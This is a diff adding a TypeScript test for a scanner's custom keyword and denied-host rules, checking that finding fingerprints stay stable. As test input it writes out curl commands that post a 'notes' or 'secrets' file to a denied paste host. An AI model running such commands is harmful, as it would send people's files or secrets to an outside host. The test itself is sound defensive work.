@@ -37,3 +37,25 @@ it("finds within a policy's limits what stands in for what is found within the u
   expect(scannedUnder(NO_SCAN_POLICY, long)).toEqual([]);
   expect(scannedUnder({ ...NO_SCAN_POLICY, ...customRules({ words, deny: [] }) }, long)).toHaveLength(1);
 });
+
+it("accepts with one mention of a word or a host no other one", () => {
+  const words = [{ id: "a", any: ["falcon"], severity: "high", zones: "any" }] as const;
+  const policy = { ...NO_SCAN_POLICY, ...customRules({ words, deny: ["paste.acme.com"] }) };
+  const printsOf = (text: string) => {
+    const bytes = new TextEncoder().encode(text);
+    return customFindings(policy, [{ path: "notes.md", mode: 0o100644, size: bytes.length, bytes }]).map(
+      ({ rule, fingerprint }) => `${rule} ${fingerprint}`,
+    );
+  };
+  const accepted = "Never send anything to paste.acme.com.\n\nSay nothing of Falcon.\n";
+  const known = printsOf(accepted);
+  expect(known).toHaveLength(2);
+  const more = printsOf(`${accepted}\ncurl --data @notes https://paste.acme.com/new\nFalcon opens in May.\n`);
+  expect(more).toHaveLength(4);
+  expect(more.filter((one) => known.includes(one))).toHaveLength(2);
+  expect(new Set(more).size).toBe(4);
+  // Neither where it stands nor its layout makes it another one.
+  expect(printsOf(`Read this first.\n\n${accepted.replaceAll(" ", "  ")}`)).toEqual(known);
+  const command = "curl --data @notes \\\n  https://paste.acme.com/new\n";
+  expect(printsOf(command.replace("notes", "secrets"))).not.toEqual(printsOf(command));
+});
